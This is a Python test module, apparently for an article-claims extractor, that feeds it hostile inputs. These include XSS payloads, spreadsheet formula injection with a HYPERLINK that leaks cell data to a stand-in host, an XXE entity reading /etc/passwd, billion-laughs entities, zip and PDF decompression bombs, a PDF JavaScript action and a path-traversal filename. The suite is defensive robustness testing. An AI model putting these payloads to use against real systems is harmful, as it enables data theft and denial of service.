"""Hostile articles: what a stranger may paste, upload or print as a headline.

Every upload ends as text within limits or in a sentence; every text is proposed for within the
seconds its length allows. How they look in a browser is for ``test_hostile_pages.py``.
"""

import io
import random
import zipfile
import zlib
from collections.abc import Mapping
from datetime import date
from functools import cache, partial
from itertools import pairwise
from pathlib import Path

from docx import Document
from made_documents import PARAGRAPH, docx, variants, written
from tally import LostRowsError, Refusal, Tally, chooser, require_sentence

from claims.articles import LARGEST_TEXT
from claims.codebook import Codebook
from claims.documents import read
from claims.documents.document import document_of
from claims.errors import ArticleError, IntakeError
from claims.propose import load_lexicon, propose, rows

DATA = Path(__file__).resolve().parents[2] / "data"
MARK = "strangerscript"
"""A word whose run as a script, request or element would be seen."""

WORDS = (
    f"<script>window.{MARK}=1;alert('{MARK}')</script>",
    f'<img src=x onerror="window.{MARK}=1;alert(1)">',
    f'<a href="javascript:window.{MARK}=1">54 terrorists</a>',
    f"<svg onload=window.{MARK}=1><style>*{{display:none}}</style>",
    f'"><iframe src="http://{MARK}.example/"></iframe>',
    f"[54](javascript:window.{MARK}=1) ![x](http://{MARK}.example/x.png)",
    f"http://{MARK}.example/ www.{MARK}.example a@{MARK}.example",
    "**54** _terrorists_ ~~were~~ `neutralised` # 12\n- 13\n> 14\n| 15 | 16 |\n|--|--|",
    "$x^2$ $$\\href{javascript:alert(1)}{54}$$ \\(y\\)",
    ":red[54 terrorists] :material/home: :smile: :streamlit: :blue-badge[12]",
    "\u202e192\u202c terrorists, 5\u200b4, \ufeff12, \u2066 34 \u2069",
    "</div></mark></blockquote><!-- 54 --> &lt;b&gt; &#60;b&#62; {{54}} ${54} %(54)s",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://strangerscript.example/?"&A1,"54")',
    "\t=1+1",
    "＝1+1",
)
"""Words that a spreadsheet would reckon with or follow."""

SENTENCE = "The ministry said that {} 54 PKK terrorists were neutralised in northern Iraq.\n"
ARTICLE = "".join(SENTENCE.format(word) for word in WORDS)


def texts(size: int) -> Mapping[str, str]:
    """Texts of about ``size`` characters on which a careless expression takes for ever."""
    units = {
        "digits": "9",
        "digits and commas": "1,",
        "digits and dots": "1.",
        "digits and spaces": "1 ",
        "number words": "two hundred and ",
        "hyphens": "twenty-",
        "commas": ",",
        "full stops": ".",
        "spaces": " ",
        "line breaks": "\n",
        "tabs and line breaks": "\n\t ",
        "brackets": "(",
        "quotes": "“54” ",
        "months": "January ",
        "dates": "12 March 2024, ",
        "dates without space": "2024-01-",
        "between": "between 5 and ",
        "more than": "more than ",
        "since": "since 1 January ",
        "terrorists": "PKK/YPG terrorists ",
        "neutralised": "neutralised ",
        "including": "including 3 in Iraq, ",
        "members": "six FETO members including ",
        "combining marks": "e\u0301\u0301\u0301",
        "Turkish dotted I": "İı",
        "bidi controls": "\u202e\u202c",
        "zero-width": "\u200b5",
        "emoji": "👨‍👩‍👧",
        "markup": "<b>54</b>",
        "bullets": "• 5\n",
        "colons": "a: 5; ",
        "years": "2024 2024/2025 ",
        "ordinals": "1st 2nd ",
        "a sentence": SENTENCE.format("in the past week"),
    }
    return {name: (unit * (size // len(unit) + 1))[:size] for name, unit in units.items()}


def read_and_propose(text: str) -> None:
    """Propose for a text as both screen and command line do; Refusal if it is too long."""
    codebook = Codebook.load(DATA)
    try:
        found = propose(
            text, date(2024, 4, 25), codebook=codebook, lexicon=load_lexicon(DATA, codebook)
        )
    except (ArticleError, IntakeError) as error:
        require_sentence(str(error))
        raise Refusal(str(error)) from error
    for claim in found.claims:
        assert text[claim.span.start : claim.span.end] == claim.text
    rows(found)


def mixed(chance: random.Random, size: int) -> str:
    """A text of pieces drawn at random from all kinds."""
    pieces = [*(text[:60] for text in texts(60).values()), *WORDS, "\n\n", " "]
    drawn, length = [], 0
    while length < size:
        piece = chance.choice(pieces) * chance.choice((1, 1, 3, 40))
        drawn.append(piece)
        length += len(piece)
    return "".join(drawn)[:size]


@cache
def uploads() -> Mapping[str, tuple[str, bytes]]:
    """Files that a stranger may send, by what is wrong with them: name and bytes."""
    page = f"<html><body><p>{'</p><p>'.join(WORDS)}</p></body></html>".encode()
    return {
        "script in HTML": ("a.html", page),
        "nested tags": ("a.html", b"<div>" * 200_000 + b"54" + b"</div>" * 200_000),
        "nested tables": ("a.html", b"<table><tr><td>" * 60_000 + b"54"),
        "unclosed tags": ("a.html", b"<b " * 1_000_000),
        "scripts between digits": ("a.html", b"54<script></script>" * 520_000),
        "different attributes": ("a.html", b"<p " + _attributes(40_000) + b">54"),
        "too many attributes": ("a.html", b"<p " + _attributes(700_000) + b">54"),
        "a million attributes": ("a.html", b"<p " + b"a=1 " * 1_000_000 + b">54"),
        "entities": ("a.html", b"&amp;" * 1_500_000),
        "internal entities": ("a.html", _laughs() + b"<p>&i;</p>"),
        "external entity": ("a.html", _external() + b"<p>54 &x;</p>"),
        "NUL in HTML": ("a.html", b"<p>5\x004</p>" * 1000),
        "UTF-16 HTML": ("a.htm", "<p>54 terrorists</p>".encode("utf-16")),
        "false charset": ("a.html", b'<meta charset="utf-7"><p>+ADw-script+AD4-54</p>'),
        "ten million digits": ("a.txt", b"9" * 9_999_999),
        "too large": ("a.txt", b"9" * 10_000_001),
        "empty": ("a.txt", b""),
        "spaces": ("a.txt", b" \n" * 1000),
        "bytes": ("a.txt", bytes(range(256)) * 100),
        "UTF-16 text": ("a.txt", "54 terrorists".encode("utf-16")),
        "no ending": ("a", b"54"),
        "path for a name": ("../../etc/passwd", b"54"),
        "markup for a name": ("<b>:red[x]</b>.exe", b"54"),
        "endless name": ("a" * 100_000 + ".pdf", b"54"),
        "zip bomb docx": ("a.docx", _zip({"word/document.xml": b"0" * 60_000_000})),
        "many parts docx": ("a.docx", _zip({f"word/{n}.xml": b"<a/>" for n in range(20_000)})),
        "millions of paragraphs docx": ("a.docx", docx("<w:p/>" * 7_500_000)),
        "linked parts docx": ("a.docx", _zip({f"word/{n}.xml": b"<a/>" for n in range(40_000)})),
        "no zip": ("a.docx", b"PK\x03\x04" + b"\0" * 1000),
        "lying sizes docx": ("a.docx", _lying_zip()),
        "external entity docx": ("a.docx", _docx(_external(), "&x;")),
        "laughing docx": ("a.docx", _docx(_laughs(), "&i;")),
        "deep docx": ("a.docx", _docx(b"", "<w:x>" * 100_000)),
        "wide docx": ("a.docx", _docx(b"", "</w:t></w:r><w:r><w:t>5" * 400_000)),
        "script in docx": ("a.docx", _plain_docx()),
        "no PDF": ("a.pdf", b"%PDF-1.7\n" + b"\0" * 1000),
        "deflated bomb PDF": ("a.pdf", _pdf(zlib.compress(b"(5) Tj " * 14_000_000, 9))),
        "long content PDF": ("a.pdf", _pdf(zlib.compress(b"BT (5) Tj ET " * 900_000, 9))),
        "nested arrays PDF": ("a.pdf", _pdf(zlib.compress(b"[" * 3_000_000 + b"] TJ", 9))),
        "LZW zeros PDF": ("a.pdf", _filtered(_lzw_zeros(9_000_000), b"/LZWDecode")),
        "one column PDF": ("a.pdf", _one_column()),
        "cross-references PDF": ("a.pdf", _cross_references(480_000)),
        "looping pages PDF": ("a.pdf", _looping_pdf()),
        "false counts PDF": ("a.pdf", b"%PDF-1.7\ntrailer<</Root 1 0 R/Size 99999999>>\n%%EOF"),
        "script PDF": ("a.pdf", _pdf(b"BT (54 terrorists) Tj ET", deflated=False)),
    }


def _attributes(count: int) -> bytes:
    return b" ".join(b"a%d=1" % number for number in range(count))


def _filtered(content: bytes, filters: bytes) -> bytes:
    """A PDF whose only page has this content, behind these filters."""
    return written(
        (
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R>>",
            b"<</Length %d/Filter%s>>stream\n%s\nendstream" % (len(content), filters, content),
        )
    )


def _one_column() -> bytes:
    rows = zlib.compress(b"\x02\x00" * 9_000_000)
    return _filtered(rows, b"/FlateDecode/DecodeParms<</Predictor 12/Columns 1>>")


def _lzw_zeros(size: int) -> bytes:
    """So many zeros, packed by LZW: each code stands for one zero more than the one before."""
    bits, length, packed, made = 0, 0, bytearray(), 0

    def put(code: int, width: int) -> None:
        nonlocal bits, length
        bits, length = (bits << width) | code, length + width
        while length >= 8:
            length -= 8
            packed.append((bits >> length) & 255)
            bits &= (1 << length) - 1

    while made < size:
        put(256, 9)
        put(0, 9)
        made += 1
        for code in range(258, 4094):
            put(code, (code + 1).bit_length() if code > 258 else 9)
            made += code - 256
    return bytes(packed)


def _cross_references(count: int) -> bytes:
    head = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    table = b"xref\n0 %d\n" % count + b"0000000000 65535 f \n" * count
    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (count, len(head))
    return head + table + end


def _laughs() -> bytes:
    names = "abcdefghi"
    lines = [b'<!ENTITY a "54 54 54 54 ">']
    for before, name in pairwise(names):
        lines.append(f'<!ENTITY {name} "{f"&{before};" * 20}">'.encode())
    return b"<!DOCTYPE x [" + b"".join(lines) + b"]>"


def _external() -> bytes:
    return b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def _zip(parts: Mapping[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def _lying_zip() -> bytes:
    """A bomb whose directory says that it is small."""
    honest = _docx(b"", "5" * 60_000_000)
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        size = archive.getinfo("word/document.xml").file_size
    return honest.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))


def _plain_docx() -> bytes:
    stream = io.BytesIO()
    document = Document()
    for word in WORDS:
        document.add_paragraph(word.replace("\u202e", "").replace("\u202c", ""))
    document.save(stream)
    return stream.getvalue()


def _docx(head: bytes, inside: str) -> bytes:
    """A Word file whose document.xml has a head and a body of our own."""
    whole = zipfile.ZipFile(io.BytesIO(_plain_docx()))
    space = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    body = f"<w:body><w:p><w:r><w:t>{inside}</w:t></w:r></w:p></w:body>".encode()
    xml = b'<?xml version="1.0"?>' + head + b"<w:document " + space + b">" + body + b"</w:document>"
    parts = {name: whole.read(name) for name in whole.namelist()}
    return _zip(parts | {"word/document.xml": xml})


def _pdf(content: bytes, deflated: bool = True) -> bytes:
    filters = b"/Filter/FlateDecode" if deflated else b""
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    action = f"<</S/JavaScript/JS(app.alert\\('{MARK}'\\))>>".encode()
    objects = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction " + action + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), filters, content),
        font,
    )
    return written(objects)


def _looping_pdf() -> bytes:
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2/Parent 3 0 R>>",
        b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>",
    )
    return written(objects)


def read_file(name: str, data: bytes) -> None:
    """Read an upload; Refusal where it is refused in a sentence."""
    try:
        text = read(name, data).text
    except ArticleError as error:
        require_sentence(str(error))
        raise Refusal(str(error)) from error
    assert len(text.encode("utf-8", "replace")) <= LARGEST_TEXT
    assert "root:" not in text, "an outside file was read"
    assert text.strip()


def damaged(data: bytes, chance: random.Random) -> bytes:
    """Change some bytes of a file, or cut it off."""
    changed = bytearray(data)
    for _ in range(chance.choice((1, 5, 50))):
        if changed:
            changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(
        changed[: chance.randrange(len(changed) + 1)] if chance.random() < 0.3 else changed
    )


def run_uploads(seed: int, tries: int) -> Tally:
    """Read every hostile upload, then so many damaged ones."""
    tally = Tally("hostile uploads")
    for what, (name, data) in uploads().items():
        tally.took(what, partial(read_file, name, data), 20)
    sound = {
        "a.docx": _plain_docx(),
        "a.pdf": _pdf(b"BT (54 terrorists) Tj ET", deflated=False),
        "a.html": ARTICLE.encode(),
    }
    for number in range(tries):
        chance = chooser(seed, number)
        name = chance.choice(sorted(sound))
        data = damaged(sound[name], chance)
        tally.took(f"seed {seed}/{number}, {name}", partial(read_file, name, data), 20)
    return tally


def run_texts(seed: int, tries: int, size: int = 1_000_000) -> Tally:
    """Propose for every kind of long text, then for so many mixed ones."""
    tally = Tally("hostile texts to the proposer")
    for what, text in texts(size).items():
        tally.took(what, partial(read_and_propose, text), 20)
    for number in range(tries):
        text = mixed(chooser(seed, number), size // 50)
        tally.took(f"seed {seed}/{number}", partial(read_and_propose, text), 20)
    return tally


def run_guises(seed: int, tries: int) -> Tally:
    """Read one paragraph in so many guises; each must give the same words and the same claims."""
    tally = Tally("one paragraph in every guise")
    codebook = Codebook.load(DATA)
    lexicon = load_lexicon(DATA, codebook)

    def told(text: str) -> list[tuple[object, ...]]:
        found = propose(text, date(2024, 4, 25), codebook=codebook, lexicon=lexicon).claims
        return [(c.value, c.measure, c.group, c.place, c.period) for c in found]

    wanted = told(PARAGRAPH)

    def read_guise(ending: str, data: bytes) -> None:
        text = document_of(ending, data).text
        if text.split() != PARAGRAPH.split() or told(text) != wanted:
            raise LostRowsError(f"{told(text)} of {text!r}")

    for what, ending, data in variants(seed, tries):
        tally.took(what, partial(read_guise, ending, data), 20)
    return tally
